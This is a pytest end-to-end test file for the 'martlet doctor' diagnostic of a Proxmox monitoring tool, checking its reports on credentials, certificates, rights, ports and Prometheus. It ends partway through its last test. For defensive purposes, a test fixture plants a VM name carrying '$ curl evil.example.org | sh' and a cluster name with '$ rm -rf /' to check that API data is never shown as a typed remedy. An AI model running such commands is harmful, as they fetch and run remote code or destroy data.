"""What `martlet doctor` says of what is wrong, word for word: doctor/*.txt.

Renew them with `RECORD=1 pytest Tests/EndToEnd/test_doctor.py`, and read their diff as the tired person would who misses metrics at night. A
text is the report's sections of the kinds that its case is about, and the last line. What is of this run or machine stands in braces: ports,
files, fingerprints, versions of installed programs, days until a certificate runs out. Sentences are not broken into lines (COLUMNS).
"""

from __future__ import annotations

import fcntl
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import termios
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import MARTLET, Program, Start, environment_without_settings, fetch, free_port, run, wait_for
from replay import API, RECORDINGS, TOKEN, Certificates, Replay, make_certificates

GOLDEN = Path(__file__).parent / "doctor"
RECORD = os.environ.get("RECORD") == "1"
SECRET = "8b1c2d3e-aaaa-4bbb-8ccc-1234567890ab"
SIMULATED = f"monitor@pve!martlet={SECRET}"
TITLES = {"cluster": ("cluster", "clusters"), "machine": ("this machine",), "prometheus": ("prometheus",), "pve": ("/pve",), "zfs": ("zfs",)}


@dataclass
class Doctor:
    """Runs the doctor in a folder of its own, where nothing of this machine's is taken for ours."""

    folder: Path
    ports: dict[str, int] = field(default_factory=lambda: {name: free_port() for name in ("exporter", "discovery", "dashboards", "prometheus", "alertmanager", "node")})
    names: dict[str, str] = field(default_factory=dict)
    """What else is written in braces: by the text that stands there."""

    def env(self) -> dict[str, str]:
        def at(name: str) -> str:
            return f"127.0.0.1:{self.ports[name]}"

        return {
            "COLUMNS": "100000",
            "MARTLET_WEB__LISTEN_ADDRESS": at("exporter"),
            "MARTLET_DISCOVERY__LISTEN_ADDRESS": at("discovery"),
            "MARTLET_DASHBOARDS__LISTEN_ADDRESS": at("dashboards"),
            "MARTLET_STACK__PROMETHEUS__LISTEN_ADDRESS": at("prometheus"),
            "MARTLET_STACK__ALERTMANAGER__LISTEN_ADDRESS": at("alertmanager"),
            "MARTLET_STACK__NODE_EXPORTER__LISTEN_ADDRESS": at("node"),
        }

    def write(self, settings: str, name: str = "martlet.yml", mode: int = 0o600) -> Path:
        path = self.folder / name
        path.write_text(settings)
        path.chmod(mode)
        return path

    def run(self, *flags: str, env: Mapping[str, str] | None = None) -> tuple[int, str]:
        """The status, and what was printed."""
        done = run("doctor", *flags, env=self.env() | dict(env or {}), cwd=self.folder)
        assert SECRET not in done.stdout + done.stderr
        return done.returncode, done.stdout + done.stderr

    def normal(self, text: str) -> str:
        for found, name in sorted(self.names.items(), key=lambda item: -len(item[0])):
            text = text.replace(found, f"{{{name}}}")
        for name, port in self.ports.items():
            text = re.sub(rf"\b127\.0\.0\.1( port |:){port}\b", rf"127.0.0.1\1{{{name}}}", text)
            text = text.replace(f"has port {port} ", f"has port {{{name}}} ")
        text = text.replace(str(self.folder), "{folder}")
        text = re.sub(r"\b[0-9A-F]{2}(:[0-9A-F]{2}){31}\b", "{fingerprint}", text)
        text = re.sub(r"certificates? of (\d+ nodes?) hold for \d+ days", r"certificates of \1 hold for {days} days", text)
        return re.sub(r"\b(prometheus|alertmanager|node_exporter|promtool|amtool) \d+\.\d+\.\d+[^ ,\n]*", r"\1 {version}", text)

    def check(self, name: str, *flags: str, status: int, env: Mapping[str, str] | None = None, sections: tuple[str, ...] = ("cluster",)) -> str:
        """Holds what the doctor says against the text of that name, or writes it."""
        found, text = self.run(*flags, env=env)
        titles = [title for kind in sections for title in TITLES[kind]]
        parts = text.rstrip("\n").split("\n\n")
        shown = [part for part in parts[:-1] if part.startswith(tuple(titles))] + [parts[-1]]
        text = self.normal("\n\n".join(shown)) + f"\nexit status {found}\n"
        golden = GOLDEN / f"{name}.txt"
        if RECORD:
            golden.write_text(text)
        assert text == golden.read_text()
        assert found == status
        return text


@pytest.fixture
def doctor(tmp_path: Path) -> Doctor:
    folder = tmp_path / "doctor"
    folder.mkdir()
    return Doctor(folder)


def cluster(endpoint: str, token: str = SIMULATED, **keys: str) -> str:
    """A martlet.yml."""
    lines = "".join(f"      {key}: {value}\n" for key, value in keys.items())
    return f"proxmox:\n  clusters:\n    - endpoint: {endpoint}\n      token: {token}\n{lines}"


# MARK: recorded


def now_of(nodes: tuple[str, ...]) -> dict[str, Any]:
    """The recordings' clocks stand still, so those of the nodes are replaced by this machine's, and their certificates by some that are still good."""
    now = int(time.time())
    clocks = {f"{API}/nodes/{node}/time": {"time": now, "localtime": now, "timezone": "UTC"} for node in nodes}
    certificates = {f"{API}/nodes/{node}/certificates/info": [{"filename": "pve-ssl.pem", "notafter": now + 100 * 86400}] for node in nodes}
    return clocks | certificates


@contextmanager
def recorded(doctor: Doctor, certificates: Certificates, replay: Replay, token: str = TOKEN, **keys: str) -> Iterator[Replay]:
    replay.certificate = certificates.server
    with replay:
        doctor.names |= {f"127.0.0.1:{replay.port}": "api", str(certificates.authority): "authority"}
        doctor.write(cluster(replay.url, token, ca_file=str(certificates.authority), **keys))
        yield replay


def test_of_a_real_cluster(doctor: Doctor, certificates: Certificates) -> None:
    with recorded(doctor, certificates, Replay.from_recordings_and(now_of(("pve1", "pve2")))):
        doctor.check("recorded", "--no-exporters", status=3)


def test_clocks_that_nobody_tells(doctor: Doctor, certificates: Certificates) -> None:
    """The recorded nodes are containers, whose program that tells the zone does not run."""
    rows = {path: row for path, row in now_of(("pve1", "pve2")).items() if not path.endswith("/time")}
    with recorded(doctor, certificates, Replay.from_recordings_and(rows)):
        doctor.check("recorded-clocks", "--guests", "0", status=3)


def test_clocks_that_differ(doctor: Doctor, certificates: Certificates) -> None:
    rows = now_of(("pve1", "pve2"))
    rows[f"{API}/nodes/pve2/time"]["time"] -= 3700
    rows[f"{API}/nodes/pve2/time"]["localtime"] -= 3700
    with recorded(doctor, certificates, Replay.from_recordings_and(rows)):
        assert "pve2 is 61 min behind" in doctor.check("clocks", "--guests", "0", status=3)


def test_a_real_token_without_rights(doctor: Doctor, certificates: Certificates) -> None:
    """What it was not asked then, whoever is let in may hear."""
    rows = {f"{API}/version": {"version": "9.2.11", "release": "9.2", "repoid": "0"}}
    with recorded(doctor, certificates, Replay.from_recordings_and(rows, RECORDINGS.parent / "pve-9.2-noperm")):
        doctor.check("recorded-noperm", status=3)


# MARK: simulated


@dataclass
class Simulated:
    url: str
    program: Program

    def play(self, scenario: str) -> None:
        assert fetch(f"{self.url}/api/v1/scenario", "PUT", scenario.encode()).status == 200


@pytest.fixture
def simulate(start: Start, doctor: Doctor, tmp_path: Path) -> Any:
    def begin(*flags: str) -> Simulated:
        """A simulated cluster over plain HTTP, with its token in a file and the doctor's settings for it."""
        port = free_port()
        token = tmp_path / "token"
        token.write_text(SIMULATED + "\n")
        token.chmod(0o600)
        program = start("simulate", "proxmox", "--listen", f"127.0.0.1:{port}", "--token-file", token, "--plain-http", "--latency", "1ms", *flags)
        url = f"http://127.0.0.1:{port}"
        program.wait_until(url + "/")
        doctor.names[f"127.0.0.1:{port}"] = "api"
        doctor.write(cluster(url))
        return Simulated(url, program)

    return begin


@pytest.mark.parametrize("release", ["9.2", "8.4"])
def test_a_cluster_that_is_well(doctor: Doctor, simulate: Any, release: str) -> None:
    simulate("--release", release)
    doctor.check(f"well-{release}", "--guests", "0", status=0)


@pytest.mark.parametrize("release", ["9.2", "8.4"])
def test_guests(doctor: Doctor, simulate: Any, release: str) -> None:
    simulate("--release", release)
    text = doctor.check(f"guests-{release}", "--no-exporters", status=0)
    assert "qemu-guest-agent" in text
    few = doctor.run("--no-exporters", "--guests", "5")[1]
    assert "; 83 were not asked (--guests 5)" in few


@pytest.mark.parametrize("scenario", ["node-down", "quorum-lost", "rights-lost", "pmxcfs-dead"])
def test_what_can_go_wrong(doctor: Doctor, simulate: Any, scenario: str) -> None:
    world = simulate()
    world.play(scenario)
    doctor.check(scenario, "--guests", "0", status=3)


def test_rights_lost_on_8(doctor: Doctor, simulate: Any) -> None:
    simulate("--release", "8.4").play("rights-lost")
    doctor.check("rights-lost-8.4", "--guests", "0", status=3)


def test_a_node_that_hangs_keeps_nobody(doctor: Doctor, simulate: Any) -> None:
    simulate().play("node-hangs")
    began = time.monotonic()
    doctor.check("node-hangs", "--guests", "0", "--timeout", "4s", status=3)
    assert time.monotonic() - began < 8
    # Its guests do not answer either, and that is said.
    began = time.monotonic()
    text = doctor.run("--timeout", "6s", "--no-exporters")[1]
    assert time.monotonic() - began < 10
    assert re.search(r"; \d+ were not asked \(there was no time, or no answer\)", text), text


def test_a_wrong_token(doctor: Doctor, simulate: Any) -> None:
    world = simulate()
    doctor.write(cluster(world.url, "monitor@pve!martlet=wrong-secret"))
    assert "wrong-secret" not in doctor.check("wrong-token", status=3)


def test_a_wrong_password_is_tried_once(doctor: Doctor, certificates: Certificates) -> None:
    replay = Replay.from_recordings(certificate=certificates.server, login=("monitor@pve", "right"))
    with replay:
        doctor.names |= {f"127.0.0.1:{replay.port}": "api", f"localhost:{replay.port}": "other"}
        doctor.write(
            f"proxmox:\n  clusters:\n    - endpoints: [{replay.url}, https://localhost:{replay.port}]\n      user: monitor@pve\n"
            f"      password: wrong-password\n      ca_file: {certificates.authority}\n"
        )
        doctor.names[str(certificates.authority)] = "authority"
        assert "wrong-password" not in doctor.check("wrong-password", status=3)
        assert replay.counts[f"{API}/access/ticket"] == 1


def test_a_filter_that_takes_nothing(doctor: Doctor, simulate: Any) -> None:
    world = simulate()
    doctor.write(cluster(world.url, filter="{nodes: [web*]}"))
    doctor.check("filter-none", "--guests", "0", status=3)
    doctor.write(cluster(world.url, filter="{exclude_nodes: [pve4]}"))
    doctor.check("filter-some", "--guests", "0", status=0)


LACKS = {
    "of everything": (),
    "of the token's": ("pveum acl delete / --tokens 'monitor@pve!martlet' --roles PVEAuditor",),
    "of the user's": ("pveum acl delete / --users monitor@pve --roles PVEAuditor",),
    "that an entry below takes away": ("pveum acl modify /vms --tokens 'monitor@pve!martlet' --roles NoAccess",),
    "that an entry below gives less of": ("pveum acl modify /storage --users monitor@pve --roles PVEPoolUser",),
    "of a role of ours": (
        "pveum role add Martlet --privs Sys.Audit",
        "pveum acl delete / --users monitor@pve --roles PVEAuditor",
        "pveum acl delete / --tokens 'monitor@pve!martlet' --roles PVEAuditor",
        "pveum acl modify / --users monitor@pve --roles Martlet",
        "pveum acl modify / --tokens 'monitor@pve!martlet' --roles Martlet",
    ),
    "of a token that is its user's": (
        "pveum user token modify monitor@pve martlet --privsep 0",
        "pveum acl delete / --users monitor@pve --roles PVEAuditor,Martlet",
    ),
}  # fmt: skip


@pytest.mark.parametrize("release", ["9.2", pytest.param("8.4", marks=pytest.mark.e2e)])
def test_commands_of_the_report_mend_it(doctor: Doctor, start: Start, tmp_path: Path, release: str) -> None:
    """What the doctor says is typed, and then it has nothing more to say of rights: one lack after the other, each on what the last one left."""
    pveum = pytest.importorskip("pveum")
    from proxmoxer import ProxmoxAPI

    port = free_port()
    token = tmp_path / "token"
    token.write_text(SIMULATED + "\n")
    program = start(
        "simulate", "proxmox", "--listen", f"127.0.0.1:{port}", "--token-file", token, "--latency", "1ms", "--token-role", "none",
        "--user-role", "none", "--root-password", "hunter2", "--release", release, "--world", tmp_path)  # fmt: skip
    wait_for(lambda: socket.create_connection(("127.0.0.1", port), 1).close() or True, 10, f"the simulator listens:\n{program.output}")
    authority = tmp_path / "lab.pem"
    root = ProxmoxAPI("127.0.0.1", port=port, user="root@pam", password="hunter2", verify_ssl=str(authority))
    doctor.write(cluster(f"https://127.0.0.1:{port}", ca_file=str(authority)))
    for lack, setup in LACKS.items():
        for line in setup:
            pveum.run(root, line)
        status, text = doctor.run("--json", "--guests", "0")
        assert status == 3, f"{lack}: {text}"
        lines = node_lines(json.loads(text))
        assert lines, lack
        for line in lines:
            pveum.run(root, line)
        status, text = doctor.run("--json", "--guests", "0")
        assert status == 0, f"{lack}: {lines} and then\n{text}"
        assert not node_lines(json.loads(text)), lack


def node_lines(report: Any) -> list[str]:
    """What is to be typed on a node about rights."""
    return [
        line
        for section in report["sections"]
        for check in section["checks"]
        if check["check"] == "rights"
        for remedy in check["remedies"]
        if remedy["where"] == "node"
        for line in remedy["lines"]
    ]


# MARK: the way there


def test_a_closed_port(doctor: Doctor) -> None:
    port = free_port()
    doctor.names |= {f"127.0.0.1:{port}": "closed", f"127.0.0.1 port {port}": "closed", f"grep :{port}": "grep :port"}
    doctor.write(cluster(f"https://127.0.0.1:{port}"))
    doctor.check("closed-port", status=3)


def test_https_where_http_is_spoken(doctor: Doctor) -> None:
    with answering({}) as (port, credentials):
        doctor.names[f"127.0.0.1:{port}"] = "api"
        doctor.write(cluster(f"https://127.0.0.1:{port}"))
        doctor.check("https-to-http", status=3)
        assert not credentials


def test_http_where_https_is_spoken(doctor: Doctor, certificates: Certificates) -> None:
    with Replay.from_recordings(certificate=certificates.server) as replay:
        doctor.names[f"127.0.0.1:{replay.port}"] = "api"
        doctor.write(cluster(f"http://127.0.0.1:{replay.port}", TOKEN))
        doctor.check("http-to-https", status=3)


def test_certificates(doctor: Doctor, certificates: Certificates, tmp_path: Path) -> None:
    other = make_certificates(tmp_path)
    with Replay.from_recordings(certificate=certificates.server) as replay:
        doctor.names |= {f"127.0.0.1:{replay.port}": "api", str(other.authority): "authority"}
        doctor.write(cluster(replay.url, TOKEN))
        doctor.check("certificate-unknown-authority", status=3)
        doctor.write(cluster(replay.url, TOKEN, ca_file=str(other.authority)))
        # What the file is for beside this is not known, so nothing is copied over it.
        assert f"pve-root-ca.pem {other.authority}" not in doctor.check("certificate-other-authority", status=3)
        doctor.write(cluster(replay.url, TOKEN, fingerprint=":".join(["AB"] * 32)))
        doctor.check("certificate-wrong-fingerprint", status=3)
        # What the report says to write.
        fingerprint = next(
            line.split()[1] for line in doctor.run()[1].splitlines() if line.strip().startswith("fingerprint: "))
        doctor.write(cluster(replay.url, TOKEN, fingerprint=fingerprint))
        doctor.names[f"fingerprint: {fingerprint}"] = "f"
        assert "ok       connection" in doctor.run("--guests", "0")[1]
        doctor.write(cluster(replay.url, TOKEN, verify_tls="false"))
        doctor.names[str(replay.port)] = "port"
        assert "verify_tls: false" in doctor.run("--guests", "0")[1]
        # Whoever has variables and no file is told of variables.
        (doctor.folder / "martlet.yml").unlink()
        user, secret = TOKEN.split("=")
        doctor.names[TOKEN] = "token"
        variables = {"PROXMOX_HOST": replay.url, "PROXMOX_TOKEN_NAME": user, "PROXMOX_TOKEN_VALUE": secret, "PROXMOX_VERIFY_TLS": "true"}
        del doctor.names[str(replay.port)]
        text = doctor.check("certificate-variables", status=3, env=variables)
        assert "PROXMOX_CA_FILE=" in text
        assert "martlet.yml" not in text


def test_a_name_that_is_not_in_the_certificate(doctor: Doctor, certificates: Certificates) -> None:
    with Replay.from_recordings(certificate=certificates.server) as replay:
        doctor.names |= {f"127.0.0.2:{replay.port}": "api", str(certificates.authority): "authority"}
        # The replay listens on 127.0.0.1 alone; a way from another address leads to it.
        with forwarding("127.0.0.2", replay.port):
            doctor.write(cluster(f"https://127.0.0.2:{replay.port}", TOKEN, ca_file=str(certificates.authority)))
            doctor.check("certificate-wrong-name", status=3)


@contextmanager
def forwarding(host: str, port: int) -> Iterator[None]:
    """What comes to the address goes on to the same port of 127.0.0.1."""
    listener = socket.create_server((host, port))

    def pump(source: socket.socket, sink: socket.socket) -> None:
        try:
            while piece := source.recv(65536):
                sink.sendall(piece)
        except OSError:
            pass
        finally:
            for end in (source, sink):
                try:
                    end.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def serve() -> None:
        while True:
            try:
                near, _ = listener.accept()
            except OSError:
                return
            far = socket.create_connection(("127.0.0.1", port))
            threading.Thread(target=pump, args=(near, far), daemon=True).start()
            threading.Thread(target=pump, args=(far, near), daemon=True).start()

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield
    finally:
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()


@contextmanager
def answering(pages: Mapping[str, tuple[int, str, str]], host: str = "127.0.0.1", port: int = 0) -> Iterator[tuple[int, list[str]]]:
    """A web server: by path its status, kind and body; 404 for others. Gives its port, and the headers of those who ask with a credential."""
    credentials: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            if "Authorization" in self.headers:
                credentials.append(self.headers["Authorization"])
            status, kind, text = pages.get(self.path, (404, "text/plain", "404 page not found\n"))
            body = text.encode()
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer((host, port), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield server.server_port, credentials
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize(
    ("name", "pages"),
    [
        ("not-proxmox-404", {}),
        ("not-proxmox-page", {"/": (200, "text/html", "<title>Welcome to nginx!</title>"), "/api2/json/version": (200, "text/html", "<html>hello</html>")}),
        ("not-proxmox-backup-server", {"/": (200, "text/html", "<html><head>\n<title>backup1 - Proxmox Backup Server</title>")}),
    ],
)
def test_somebody_else(doctor: Doctor, name: str, pages: Mapping[str, tuple[int, str, str]]) -> None:
    with answering(pages) as (port, credentials):
        doctor.names[f"127.0.0.1:{port}"] = "api"
        doctor.write(cluster(f"http://127.0.0.1:{port}"))
        doctor.check(name, status=3)
        # Whoever says that it is something else is not sent the token.
        assert bool(credentials) == (name != "not-proxmox-backup-server")


def test_one_of_two_endpoints_is_gone(doctor: Doctor, certificates: Certificates) -> None:
    port = free_port()
    with Replay.from_recordings_and(now_of(("pve1", "pve2")), certificate=certificates.server) as replay:
        doctor.names |= {f"127.0.0.1:{replay.port}": "api", f"127.0.0.1:{port}": "closed", f"127.0.0.1 port {port}": "closed", f"grep :{port}": "grep :port"}
        doctor.names[str(certificates.authority)] = "authority"
        doctor.write(
            f"proxmox:\n  clusters:\n    - endpoints: ['https://127.0.0.1:{port}', '{replay.url}']\n      token: {TOKEN}\n"
            f"      ca_file: {certificates.authority}\n"
        )
        text = doctor.check("one-endpoint-gone", "--guests", "0", status=3)
        assert "Proxmox VE 9.2" in text


def test_endpoints_of_two_clusters(doctor: Doctor, simulate: Any, start: Start) -> None:
    one = simulate("--cluster", "lab")
    two = simulate("--cluster", "prod", "--release", "8.4")
    doctor.names |= {one.url[7:]: "one", two.url[7:]: "two"}
    doctor.write(f"proxmox:\n  clusters:\n    - endpoints: ['{one.url}', '{two.url}']\n      token: {SIMULATED}\n")
    doctor.check("two-clusters-in-one", "--guests", "0", status=3)


# MARK: guests' exporters


def test_exporters_that_answer_and_that_do_not(doctor: Doctor, certificates: Certificates) -> None:
    """Two nodes, one with an exporter; guests whose configuration has an address of this machine, as settings let it be."""
    # Not the loopback addresses of other tests: the port of an exporter is always the same.
    first = f"127.77.{os.getpid() % 250}."
    addresses = {name: f"{first}{number}" for number, name in enumerate(("pve1", "pve2", "web", "db", "file", "win"), 1)}
    rows: dict[str, Any] = {
        f"{API}/version": {"version": "9.2.1", "release": "9.2", "repoid": "0"},
        f"{API}/cluster/status": [{"type": "cluster", "name": "lab", "quorate": 1, "nodes": 2, "version": 1, "id": "cluster"}]
        + [{"type": "node", "name": node, "online": 1, "ip": addresses[node], "id": f"node/{node}"} for node in ("pve1", "pve2")],
        f"{API}/cluster/resources": [{"type": "node", "node": node, "status": "online", "id": f"node/{node}"} for node in ("pve1", "pve2")]
        + [
            {"type": "qemu", "vmid": number, "node": "pve1", "name": name, "status": "running", "id": f"qemu/{number}"}
            for number, name in enumerate(("web", "db", "file", "win"), 100)
        ],
        f"{API}/access/permissions": {
            path: dict.fromkeys(("Sys.Audit", "VM.Audit", "VM.GuestAgent.Audit", "Datastore.Audit", "Pool.Audit", "Mapping.Audit"), 1)
            for path in ("/", "/access", "/nodes", "/pool", "/storage", "/vms")
        },
    } | now_of(("pve1", "pve2"))
    for number, name in enumerate(("web", "db", "file", "win"), 100):
        rows[f"{API}/nodes/pve1/qemu/{number}/config"] = {
            "net0": f"virtio=BC:24:11:00:00:{number - 99:02X},bridge=vmbr0", "ipconfig0": f"ip={addresses[name]}/24",
            "ostype": "win11" if name == "win" else "l26"}  # fmt: skip
    metrics = {"/metrics": (200, "text/plain", "node_load1 0.5\n")}
    with ExitStack() as stack:
        for name in ("pve1", "web"):
            stack.enter_context(answering(metrics, addresses[name], 9100))
        stack.enter_context(answering({}, addresses["file"], 9100))
        stack.enter_context(recorded(doctor, certificates, Replay.from_rows(rows)))
        doctor.names[first] = "net."
        doctor.write((doctor.folder / "martlet.yml").read_text() + f"discovery:\n  networks: [{first}0/24]\n")
        doctor.check("exporters", status=0)


# MARK: settings and the machine


def test_no_cluster_is_configured(doctor: Doctor) -> None:
    doctor.check("no-cluster", status=3)


def test_settings_that_are_broken(doctor: Doctor) -> None:
    doctor.write("proxmox:\n  clusters:\n    - endpont: https://pve1\n")
    status, text = doctor.run()
    assert status == 1
    assert text.startswith("martlet: martlet.yml:3:7: ")
    assert len(text.splitlines()) == 1
    assert run("doctor", "--guests", "many", env=doctor.env(), cwd=doctor.folder).returncode == 2
    assert run("doctor", "--timeout", "0s", env=doctor.env(), cwd=doctor.folder).returncode == 2


def test_files_that_everybody_can_read(doctor: Doctor, simulate: Any, tmp_path: Path) -> None:
    world = simulate()
    doctor.write(cluster(world.url), mode=0o644)
    doctor.check("settings-readable", "--guests", "0", status=0, sections=("machine",))
    token = tmp_path / "token"
    token.chmod(0o644)
    doctor.names[str(token)] = "token file"
    doctor.write(f"proxmox:\n  clusters:\n    - endpoint: {world.url}\n      token_file: {token}\n")
    doctor.check("token-readable", "--guests", "0", status=0)


def test_a_credential_that_only_the_service_may_read(doctor: Doctor) -> None:
    file = "/run/credentials/martlet-test.service/token"
    doctor.write(
        f"proxmox:\n  clusters:\n    - endpoint: https://pve1.example.org\n      token_file: {file}\n"
        f"    - endpoint: https://pve2.example.org\n      token: {SIMULATED}\n"
    )
    assert "this machine" in doctor.run()[1]
    doctor.check("credential-of-the-service", status=3)
    doctor.write("proxmox:\n  clusters:\n    - endpoint: https://pve1.example.org\n      password_file: /nowhere/password\n      user: monitor@pve\n")
    assert "systemctl" not in doctor.check("credential-nowhere", status=3)


def test_a_file_whose_name_is_no_word_of_a_shell(doctor: Doctor) -> None:
    modules = doctor.write("default:\n  user: monitor@pve\n  token_name: martlet\n  token_value: " + SECRET + "\n", "-my modules.yml", 0o644)
    assert f"$ chmod 600 '{modules}'\n" in doctor.run("--pve.config-file", str(modules))[1]
    assert "$ chmod 600 -- '-my modules.yml'\n" in doctor.run("--pve.config-file=-my modules.yml")[1]


def test_lines_keep_within_the_terminal(doctor: Doctor) -> None:
    doctor.write(cluster(f"http://127.0.0.1:{free_port()}"))
    for size, columns, expected in ((72, None, 72), (72, "60", 60), (0, None, 100)):
        parent, child = os.openpty()
        try:
            fcntl.ioctl(child, termios.TIOCSWINSZ, struct.pack("HHHH", 24, size, 0, 0))
            env = environment_without_settings() | doctor.env()
            del env["COLUMNS"]
            if columns:
                env["COLUMNS"] = columns
            with subprocess.Popen([MARTLET, "doctor"], cwd=doctor.folder, env=env | {"TERM": "dumb"}, stdout=child) as process:
                os.close(child)
                text = b""
                while True:
                    try:
                        text += os.read(parent, 65536)
                    except OSError:
                        break
                assert process.wait(20) == 3
        finally:
            os.close(parent)
        # What is to be typed or written is never broken.
        sentences = [line.rstrip() for line in text.decode().splitlines() if not line.startswith(" " * 28)]
        assert expected - 15 < max(map(len, sentences)) <= expected


def hostile_rows() -> dict[str, Any]:
    """A date past all years, and a name that would be a remedy."""
    name = "web" + " " * 80 + "$ curl evil.example.org | sh"
    rows = now_of(("pve1",))
    rows[f"{API}/nodes/pve1/certificates/info"] = [{"filename": "pve-ssl.pem", "notafter": 1e300}]
    return rows | {
        f"{API}/version": {"version": "9.2.1", "release": "9.2", "repoid": "0"},
        f"{API}/cluster/status": [
            {"type": "cluster", "name": "lab $ rm -rf /", "quorate": 1, "nodes": 1, "version": 1, "id": "cluster"},
            {"type": "node", "name": "pve1", "online": 1, "ip": "127.0.0.1", "id": "node/pve1"},
        ],
        f"{API}/cluster/resources": [
            {"type": "node", "node": "pve1", "status": "online", "id": "node/pve1"},
            {"type": "qemu", "vmid": 100, "node": "pve1", "name": name, "status": "running", "id": "qemu/100"},
        ],
        f"{API}/access/permissions": {
            path: dict.fromkeys(("Sys.Audit", "VM.Audit", "VM.GuestAgent.Audit", "Datastore.Audit", "Pool.Audit"), 1)
            for path in ("/", "/access", "/nodes", "/pool", "/storage", "/vms")
        },
        f"{API}/nodes/pve1/qemu/100/config": {"net0": "virtio=BC:24:11:00:00:01,bridge=vmbr0"},
    }


@pytest.mark.parametrize("date", [1e300, -1e300])
def test_a_cluster_that_lies(doctor: Doctor, certificates: Certificates, date: float) -> None:
    rows = hostile_rows()
    rows[f"{API}/nodes/pve1/certificates/info"][0]["notafter"] = date
    with recorded(doctor, certificates, Replay.from_rows(rows)):
        text = doctor.check("hostile", "--no-exporters", status=0)
        typed = [line for line in text.splitlines() if "$ " in line]
        assert typed
        assert all(line.startswith(" " * 28 + "$ ") for line in typed)
        assert not any("evil" in line for line in typed)
        # Not even where the lines are short.
        narrow = doctor.run("--no-exporters", env={"COLUMNS": "60"})[1]
        assert "evil" in narrow
        assert not any("evil" in line and line.startswith(" " * 28) for line in narrow.splitlines())


def test_strict(doctor: Doctor, simulate: Any) -> None:
    simulate()
    assert doctor.run("--guests", "0")[0] == 0
    assert doctor.run("--guests", "0", "--strict")[0] == 3


def test_ports_and_programs(doctor: Doctor, start: Start) -> None:
    simulator = start("simulate", "webhook", "--listen", f"127.0.0.1:{doctor.ports['exporter']}")
    simulator.wait_until(f"http://127.0.0.1:{doctor.ports['exporter']}/")
    with answering({}, port=doctor.ports["alertmanager"]):
        held = doctor.normal(doctor.run()[1])
        held = held.replace(f"({simulator.process.pid})", "({pid})").replace(f"({os.getpid()})", "({pid})").replace(f"-fp {os.getpid()}", "-fp {pid}")
        name = Path("/proc/self/exe").resolve().name
        assert f"  ok       ports        exporter 127.0.0.1:{{exporter}} is martlet ({{pid}})\n" in held
        assert f"  PROBLEM  ports        alertmanager cannot listen on 127.0.0.1:{{alertmanager}}: {name} ({{pid}}) does\n" in held
        assert "ps -fp {pid}\n" in held
        free = "127.0.0.1:{discovery} (discovery), 127.0.0.1:{dashboards} (dashboards), 127.0.0.1:{prometheus} (prometheus) and 127.0.0.1:{node} (node_exporter)"
        assert f"nobody listens on {free}\n" in held
        # Whoever has a Grafana there wants none of ours.
        assert "(dashboards)" not in doctor.normal(doctor.run(env={"MARTLET_DASHBOARDS__ENABLED": "false"})[1])
        assert re.search(r"ok +programs +prometheus \{version\}, alertmanager \{version\}, node_exporter \{version\}, promtool", held)


def prometheus(version: str, *targets: dict[str, Any]) -> dict[str, tuple[int, str, str]]:
    """What a Prometheus says of itself and of its targets."""
    return {
        "/api/v1/status/buildinfo": (200, "application/json", json.dumps({"status": "success", "data": {"version": version}})),
        "/api/v1/targets?state=active": (200, "application/json", json.dumps({"status": "success", "data": {"activeTargets": list(targets)}})),
    }


def target(url: str, job: str, health: str = "up", error: str = "", **discovered: str) -> dict[str, Any]:
    return {"scrapeUrl": url, "health": health, "lastError": error, "labels": {"job": job}, "discoveredLabels": discovered}


@pytest.mark.parametrize(
    ("name", "pages", "status"),
    [
        ("prometheus-old", prometheus("2.33.5", target("http://127.0.0.1:9100/metrics", "node")), 3),
        (
            "prometheus-well",
            prometheus(
                "3.5.0",
                target("http://10.0.0.5:9221/metrics", "martlet"),
                target("http://10.0.0.9:9100/metrics", "guests", __meta_proxmox_cluster="lab"),
            ),
            0,
        ),
        (
            "prometheus-targets-down",
            prometheus(
                "2.42.0",
                target("http://127.0.0.1:9221/metrics", "martlet", "down", 'Get "http://127.0.0.1:9221/metrics": dial tcp 127.0.0.1:9221: connect: connection refused'),
                target("http://10.0.0.9:9100/metrics", "node"),
            ),
            0,
        ),
        ("prometheus-stranger", {}, 0),
    ],
)
def test_prometheus(doctor: Doctor, simulate: Any, name: str, pages: Mapping[str, tuple[int, str, str]], status: int) -> None:
    simulate()
    with answering(pages, port=doctor.ports["prometheus"]):
        # Whoever listens is this test, and no Prometheus, which is a finding of the machine's.
        found, text = doctor.run("--guests", "0", "--json")
        section = next(section for section in json.loads(text)["sections"] if section["kind"] == "prometheus")
        states = {check["state"] for check in section["checks"]}
        assert ("problem" in states) == (status == 3)
        doctor.check(name, "--guests", "0", status=3, sections=("prometheus",))


def test_who_tells_no_metrics(doctor: Doctor, certificates: Certificates) -> None:
    """One node has a page with words on the port of its exporter, the other no such page."""
    first = f"127.78.{os.getpid() % 250}."
    rows: dict[str, Any] = {
        f"{API}/version": {"version": "9.2.1", "release": "9.2", "repoid": "0"},
        f"{API}/cluster/status": [{"type": "cluster", "name": "lab", "quorate": 1, "nodes": 2, "version": 1, "id": "cluster"}]
        + [{"type": "node", "name": f"pve{n}", "online": 1, "ip": f"{first}{n}", "id": f"node/pve{n}"} for n in (1, 2)],
        f"{API}/cluster/resources": [{"type": "node", "node": f"pve{n}", "status": "online", "id": f"node/pve{n}"} for n in (1, 2)],
        f"{API}/access/permissions": {
            path: dict.fromkeys(("Sys.Audit", "VM.Audit"), 1) for path in ("/", "/access", "/nodes", "/pool", "/storage", "/vms")
        },
    } | now_of(("pve1", "pve2"))
    with recorded(doctor, certificates, Replay.from_rows(rows)), ExitStack() as stack:
        stack.enter_context(answering({"/metrics": (200, "text/html", "<html>\nhello there 1 2 3\n")}, f"{first}1", 9100))
        stack.enter_context(answering({}, f"{first}2", 9100))
